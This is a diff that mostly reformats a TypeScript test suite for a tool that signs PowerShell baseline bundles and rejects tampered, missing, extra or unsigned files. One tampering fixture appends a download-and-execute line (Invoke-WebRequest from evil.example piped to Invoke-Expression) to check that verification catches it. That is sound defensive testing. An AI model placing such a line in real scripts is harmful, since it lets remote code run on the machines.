@@ -46,14 +46,17 @@ describe("signed bundles", () => {
     expect(r.exitCode).toBe(0);
     const names = readdirSync(join(work, "a")).filter((n) => n.endsWith(".zip"));
     expect(names.length).toBeGreaterThan(30);
-    for (const n of names) expect(readFileSync(join(work, "b", n)).equals(readFileSync(join(work, "a", n))), n).toBe(true);
+    for (const n of names)
+      expect(readFileSync(join(work, "b", n)).equals(readFileSync(join(work, "a", n))), n).toBe(true);
   });
 
   it("carry a manifest listing every file with its sha256, and a signature", () => {
     const files = unzipFiles(readFileSync(zipOf(join(work, "a"), UNIT)));
     const manifest = JSON.parse(Buffer.from(files.get(MANIFEST) as Uint8Array).toString("utf8"));
     expect(files.has(SIGNATURE)).toBe(true);
-    expect(manifest.files.map((f: { path: string }) => f.path).sort()).toEqual([...files.keys()].filter((n) => n !== MANIFEST && n !== SIGNATURE).sort());
+    expect(manifest.files.map((f: { path: string }) => f.path).sort()).toEqual(
+      [...files.keys()].filter((n) => n !== MANIFEST && n !== SIGNATURE).sort(),
+    );
     expect(manifest.generator).toMatch(/^attt-kit /);
     expect(manifest.inventorySha256).toMatch(/^[0-9a-f]{64}$/);
   });
@@ -65,19 +68,43 @@ describe("signed bundles", () => {
   });
 
   const rejections: Array<[string, () => string, RegExp, string?]> = [
-    ["a tampered file", () => tampered("altered", (f) => {
-      const name = [...f.keys()].find((n) => n.endsWith("Apply-Baseline.ps1")) as string;
-      f.set(name, strToU8(`${Buffer.from(f.get(name) as Uint8Array).toString("utf8")}\nInvoke-WebRequest http://evil.example | Invoke-Expression\n`));
-    }), /altered file: .*Apply-Baseline\.ps1/],
-    ["a missing file", () => tampered("missing", (f) => {
-      f.delete([...f.keys()].find((n) => n.endsWith("Undo-Baseline.ps1")) as string);
-    }), /missing file: .*Undo-Baseline\.ps1/],
-    ["an extra file", () => tampered("extra", (f) => f.set("windows-office/run-me-too.ps1", strToU8("Write-Host hi"))), /extra file not in the manifest: windows-office\/run-me-too\.ps1/],
-    ["an altered manifest", () => tampered("manifest", (f) => {
-      const m = JSON.parse(Buffer.from(f.get(MANIFEST) as Uint8Array).toString("utf8"));
-      m.files.pop();
-      f.set(MANIFEST, strToU8(JSON.stringify(m, null, 2)));
-    }), /signature does not match/],
+    [
+      "a tampered file",
+      () =>
+        tampered("altered", (f) => {
+          const name = [...f.keys()].find((n) => n.endsWith("Apply-Baseline.ps1")) as string;
+          f.set(
+            name,
+            strToU8(
+              `${Buffer.from(f.get(name) as Uint8Array).toString("utf8")}\nInvoke-WebRequest http://evil.example | Invoke-Expression\n`,
+            ),
+          );
+        }),
+      /altered file: .*Apply-Baseline\.ps1/,
+    ],
+    [
+      "a missing file",
+      () =>
+        tampered("missing", (f) => {
+          f.delete([...f.keys()].find((n) => n.endsWith("Undo-Baseline.ps1")) as string);
+        }),
+      /missing file: .*Undo-Baseline\.ps1/,
+    ],
+    [
+      "an extra file",
+      () => tampered("extra", (f) => f.set("windows-office/run-me-too.ps1", strToU8("Write-Host hi"))),
+      /extra file not in the manifest: windows-office\/run-me-too\.ps1/,
+    ],
+    [
+      "an altered manifest",
+      () =>
+        tampered("manifest", (f) => {
+          const m = JSON.parse(Buffer.from(f.get(MANIFEST) as Uint8Array).toString("utf8"));
+          m.files.pop();
+          f.set(MANIFEST, strToU8(JSON.stringify(m, null, 2)));
+        }),
+      /signature does not match/,
+    ],
     ["no signature", () => tampered("unsigned", (f) => f.delete(SIGNATURE)), /not signed/],
   ];
   for (const [name, make, message] of rejections) {
@@ -92,7 +119,12 @@ describe("signed bundles", () => {
   it("verify rejects a bundle signed with another key", async () => {
     const other = join(work, "other-keys");
     await runCli(["keygen", "--out", other]);
-    const r = await runCli(["verify", zipOf(join(work, "a"), UNIT), "--key", join(other, "attt-signing.pub")]);
+    const r = await runCli([
+      "verify",
+      zipOf(join(work, "a"), UNIT),
+      "--key",
+      join(other, "attt-signing.pub"),
+    ]);
     expect(r.exitCode).toBe(1);
     expect(r.stderr).toMatch(/signature does not match/);
   });
@@ -119,10 +151,15 @@ describe("signed bundles", () => {
 describe("province-scale packaging", () => {
   it("after one unit changes, rewrites only that unit's zip", async () => {
     const out = join(work, "incremental");
-    expect((await runCli(["baseline", "package", inventory, "--out", out, "--sign-key", KEY])).exitCode).toBe(0);
+    expect((await runCli(["baseline", "package", inventory, "--out", out, "--sign-key", KEY])).exitCode).toBe(
+      0,
+    );
     const before = new Map(readdirSync(out).map((n) => [n, statSync(join(out, n)).ino]));
     const unitFile = join(inventory, "units", `${UNIT}.yaml`);
-    writeFileSync(unitFile, readFileSync(unitFile, "utf8").replace(/count: (\d+)/, (_m, n) => `count: ${Number(n) + 1}`));
+    writeFileSync(
+      unitFile,
+      readFileSync(unitFile, "utf8").replace(/count: (\d+)/, (_m, n) => `count: ${Number(n) + 1}`),
+    );
     const r = await runCli(["baseline", "package", inventory, "--out", out, "--sign-key", KEY, "--json"]);
     const summary = JSON.parse(r.stdout);
     expect(summary.rebuilt).toBe(1);
@@ -138,14 +175,28 @@ describe("province-scale packaging", () => {
     writeSyntheticProvince(big, { schools: 300, namedHosts: false });
     const out = join(work, "atomic");
     expect((await runCli(["baseline", "package", big, "--out", out])).exitCode).toBe(0);
-    const snapshot = () => new Map(readdirSync(out).map((n) => [n, readFileSync(join(out, n)).toString("base64")]));
+    const snapshot = () =>
+      new Map(readdirSync(out).map((n) => [n, readFileSync(join(out, n)).toString("base64")]));
     const before = snapshot();
     // Change every unit so the next run must rebuild everything, then kill it.
     for (const f of readdirSync(join(big, "units"))) {
       const p = join(big, "units", f);
       writeFileSync(p, readFileSync(p, "utf8").replace("level: 2", "level: 3"));
     }
-    const child = execa("node", ["--import", "tsx", join(import.meta.dirname, "..", "bin", "attt.ts"), "baseline", "package", big, "--out", out], { reject: false });
+    const child = execa(
+      "node",
+      [
+        "--import",
+        "tsx",
+        join(import.meta.dirname, "..", "bin", "attt.ts"),
+        "baseline",
+        "package",
+        big,
+        "--out",
+        out,
+      ],
+      { reject: false },
+    );
     await new Promise((r) => setTimeout(r, 2500));
     child.kill("SIGKILL");
     await child;
